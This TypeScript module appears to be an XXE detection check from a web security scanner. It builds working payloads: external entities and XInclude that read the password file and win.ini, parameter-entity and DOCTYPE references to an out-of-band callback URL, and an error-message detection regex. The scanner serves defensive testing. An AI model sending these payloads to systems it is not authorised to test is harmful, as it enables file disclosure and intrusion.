// XML external entities: a parser resolves what a document from outside refers to.
import { defineCheck } from "../check.ts";
import type { PointCheck, Tools } from "../check.ts";
import type { Proof } from "../evidence.ts";
import { provesRead } from "../execution/file-proof.ts";
import { hears, heard, step } from "../execution/judged.ts";
import { passwd, winIniFile } from "../execution/known-files.ts";
import { firstCalled } from "../execution/out-of-band-proof.ts";
import type { Call } from "../execution/out-of-band-proof.ts";
import { holdsXml, xmlPlaceOf } from "../execution/xml-document.ts";
import type { XmlPlace } from "../execution/xml-document.ts";
import type { Point } from "../point.ts";

export const xxe = defineCheck<PointCheck>({
  id: "xxe", about: "An XML parser reads files or calls addresses that a document names.",
  title: "XML external entities", cwe: 611, owasp: ["A05"], severity: "high", risk: "payload", attackClass: "xxe",
  remediation: "Switch off document types in the parser, or external general and parameter entities, external document types and XInclude where types are needed. Prefer formats without references, such as JSON, for data from outside.",
  on: "point", fits: (point) => (point.kind === "xml" ? !point.name.includes("/@") : ["query", "form", "json", "multipart"].includes(point.kind) || holdsXml(point)),
  async *probe(point, tools) {
    if (!tools.allows("payload")) return;
    const place = xmlPlaceOf(point, tools);
    const isXml = holdsXml(point);
    const expands = await expandsEntities(place, tools);
    const proof = (expands || isXml ? await readsFile(point, tools, place) : undefined)
      ?? await includes(point, tools)
      ?? await firstCalled(point, tools, isXml || expands ? calls(place) : calls(place).slice(0, 1), place.send)
      ?? (expands || isXml ? await complains(tools, place) : undefined);
    if (proof !== undefined) yield proof;
  },
});

async function expandsEntities(place: XmlPlace, tools: Tools): Promise<boolean> {
  const [left, word, right] = ["left", "word", "right"].map((label) => tools.seed.word(`entity/${label}`, 7));
  return hears(await place.send(place.document(`<!ENTITY e "${word}">`, `${left}&e;${right}`)), `${left}${word}${right}`);
}

async function readsFile(point: Point, tools: Tools, place: XmlPlace): Promise<Proof | undefined> {
  for (const [file, root] of [[passwd, "file:///"], [winIniFile, "file:///c:/"]] as const) {
    for (const subset of [(path: string) => `<!ENTITY e SYSTEM "${root}${path}">`, (path: string) => `<!ENTITY e PUBLIC "e" "${root}${path}">`]) {
      const proof = await provesRead(point, tools, { technique: "entity", file, write: (path) => place.document(subset(path), "&e;"), because: "An external entity was resolved" }, place.send);
      if (proof !== undefined) return proof;
    }
  }
  return undefined;
}

// XInclude 1.0 3.1: works where the value becomes part of a document that the server makes.
async function includes(point: Point, tools: Tools): Promise<Proof | undefined> {
  const included = (path: string): string => `<i xmlns:i="http://www.w3.org/2001/XInclude"><i:include parse="text" href="file:///${path}"/></i>`;
  const place = xmlPlaceOf(point, tools);
  return provesRead(point, tools, { technique: "xinclude", file: passwd, write: (path) => (point.kind === "xml" ? place.document("", included(path)) : included(path)), because: "An XInclude was followed" }, point.kind === "xml" ? place.send : undefined);
}

const calls = (place: XmlPlace): Call[] => [
  { technique: "parameter-entity", by: "The XML parser", write: ({ url }) => place.document(`<!ENTITY % p SYSTEM "${url}"> %p;`, "x"), answer: { body: "<!ENTITY q 'q'>", contentType: "application/xml-dtd" } },
  { technique: "entity", by: "The XML parser", write: ({ url }) => place.document(`<!ENTITY e SYSTEM "${url}">`, "&e;") },
  { technique: "document-type", by: "The XML parser", write: ({ url }) => place.document("", "x").replace(/\?>/, `?><!DOCTYPE w SYSTEM "${url}">`), answer: { body: "<!ENTITY q 'q'>", contentType: "application/xml-dtd" } },
];

// What parsers say of an entity that they tried to open: Xerces and the JDK, libxml2, .NET, expat's handlers, Node.
const tried = /FileNotFoundException|No such file or directory|failed to load external entity|Could not find (?:file|a part of the path)|cannot find the (?:file|path)|failed to open stream|\bENOENT\b|I\/O warning/i;

async function complains(tools: Tools, place: XmlPlace): Promise<Proof | undefined> {
  const missing = (attempt: string): string => `file:///${tools.seed.word(`missing/${attempt}`, 9)}/${tools.seed.word(`missing/${attempt}/name`, 9)}`;
  const first = await place.send(place.document(`<!ENTITY e SYSTEM "${missing("first")}">`, "&e;"));
  if (!tried.test(heard(first))) return undefined;
  const again = await place.send(place.document(`<!ENTITY e SYSTEM "${missing("second")}">`, "&e;"));
  const control = await place.send(place.document(`<!ENTITY e "${missing("first")}">`, "&e;"));
  if (!tried.test(heard(again)) || control.reply === undefined || tried.test(heard(control))) return undefined;
  return { technique: "error", confidence: "firm", because: "The parser tried to open a file that an external entity named, and said that it is not there.", steps: [step("attack", first, "The answer tells that the named file could not be opened."), step("attack", again, "With another name it does so again."), step("control", control, "The same name as plain text of an entity is not complained about.")] };
}
